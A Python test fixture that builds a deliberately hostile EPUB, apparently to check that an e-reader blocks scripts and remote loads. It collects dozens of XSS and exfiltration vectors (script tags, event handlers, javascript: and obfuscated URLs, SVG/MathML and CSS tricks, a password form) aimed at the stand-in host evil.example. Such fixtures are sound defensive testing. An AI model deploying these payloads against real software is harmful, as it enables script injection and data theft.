"""A hostile book: every way we know in which a book could run something, fetch something, or send something. Made here, never kept."""

from tests.formats.zips import NAV, epub, page

MARK = "lavhOwned"  # what a script of the book would leave on the window


def book(host: str = "http://evil.example", broken: str = "") -> bytes:
    """The book. Whatever reaches out asks `host` for an address that ends with the name of the way. `broken`: what makes it no XML."""
    run = f"window.{MARK}=1;fetch('{host}/script')"
    head = f"""<script>{run}</script><script src="x.js"></script><script src="{host}/script-src"></script>
        <meta http-equiv="refresh" content="0;url={host}/refresh"/><base href="{host}/base/"/><link rel="stylesheet" href="{host}/link"/><link rel="stylesheet" href="s.css"/>
        <link rel="prefetch" href="{host}/prefetch"/><link rel="preload" as="image" href="{host}/preload"/><link rel="icon" href="{host}/icon"/><link rel="dns-prefetch" href="{host}"/>
        <style>@import "{host}/style-import"; @import url({host}/style-import-url); body {{ background: url({host}/style-url) }}
        p {{ background: u\\72l({host}/style-escape); behavior: url({host}/behavior); -moz-binding: url({host}/binding) }}
        h1 {{ background: image-set("{host}/image-set" 1x); cursor: url({host}/cursor), auto; list-style-image: url("{host}/list") }}
        @font-face {{ font-family: x; src: url({host}/font) }} h1 {{ font-family: x }} @namespace url({host}/namespace);</style>"""
    body = f"""<h1 onclick="{run}" onmouseover="{run}" style="background:url({host}/attribute)">Kitob</h1>
        <img src="x" onerror="{run}" alt="a"/><img src="{host}/img" alt="b"/><img srcset="{host}/srcset 1x" src="a.png" alt="c" lowsrc="{host}/lowsrc" dynsrc="{host}/dynsrc"/>
        <picture><source srcset="{host}/picture"/><img src="a.png" alt="d"/></picture><input type="image" src="{host}/input" alt="e"/>
        <iframe src="{host}/iframe"></iframe><iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe><frame src="{host}/frame"/><portal src="{host}/portal"/>
        <object data="{host}/object" type="text/html"></object><object data="{host}/object-image" type="image/png"></object><embed src="{host}/embed"/><applet code="{host}/applet"/>
        <audio src="{host}/audio" autoplay="autoplay"></audio><video src="{host}/video" poster="{host}/poster" autoplay="autoplay"><source src="{host}/source"/><track src="{host}/track"/></video>
        <form action="{host}/form" id="f"><input name="password" type="password"/><button formaction="{host}/formaction" type="submit">go</button></form>
        <a href="javascript:{run}" id="js">a</a><a href=" java&#9;script:{run}">b</a><a href="data:text/html,&lt;script&gt;{run}&lt;/script&gt;">c</a><a href="vbscript:x">d</a>
        <a href="{host}/link-out" ping="{host}/ping">out</a><a href="file:///etc/passwd">e</a><area href="javascript:{run}" alt="f"/>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{run}"><script>{run}</script><script href="{host}/svg-script"/>
          <image href="{host}/svg-image"/><use href="{host}/use#a"/><use href="data:image/svg+xml,&lt;svg id='a' onload='{run}'/&gt;#a"/><feImage href="{host}/feimage"/>
          <a xlink:href="javascript:{run}"><text>g</text><animate attributeName="xlink:href" to="javascript:{run}"/><set attributeName="href" to="javascript:{run}"/></a>
          <rect fill="url({host}/fill#a)" filter="url({host}/filter#a)" mask="url({host}/mask)"><handler>x</handler></rect>
          <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{host}/foreign"/><script xmlns="http://www.w3.org/1999/xhtml">{run}</script></foreignObject>
          <style>@import "{host}/svg-style"; rect {{ fill: url({host}/svg-style-url) }}</style></svg>
        <math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{run}"><mtext><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{run}"/></mtext>
          <annotation-xml encoding="text/html"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{host}/annotation"/></annotation-xml><maction actiontype="statusline#{host}">x</maction></math>
        <table background="{host}/background"><tr><td background="{host}/cell">x</td></tr></table><p data-controller="x" data-action="click-&gt;x" is="x-y">p</p>
        <noscript><img src="{host}/noscript" alt="h"/></noscript><template><img src="{host}/template" alt="i"/></template><xmp>j</xmp><link rel="stylesheet" href="{host}/body-link"/>
        <p id="alive">Shu yerda hech narsa ishlamaydi.</p>"""
    instruction = f'<?xml-stylesheet href="{host}/instruction" type="text/css"?><?xml-stylesheet href="{host}/xsl" type="text/xsl"?>'
    files = {
        "ch1.xhtml": instruction + page(body + broken, head),
        "ch2.svg": f'{instruction}<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script><image href="{host}/alone"/><text>Rasm</text></svg>',
        "s.css": f'@import "{host}/sheet"; p {{ background: url({host}/sheet-url) }} p {{ color: red }}',
        "x.js": run,
        "a.png": b"\x89PNG\r\n\x1a\n",
        "nav.xhtml": NAV.format(
            f'<li><a href="ch1.xhtml">Bir</a></li><li><a href="javascript:{run}">Ikki</a></li><li><a href="{host}/nav">Uch</a></li>',
            f"<script>{run}</script>",
        ),
    }
    items = f'<item id="r" href="{host}/item.png" media-type="image/png"/><item id="h" href="data:text/html,x" media-type="application/xhtml+xml"/>'
    return epub(files, items=items)
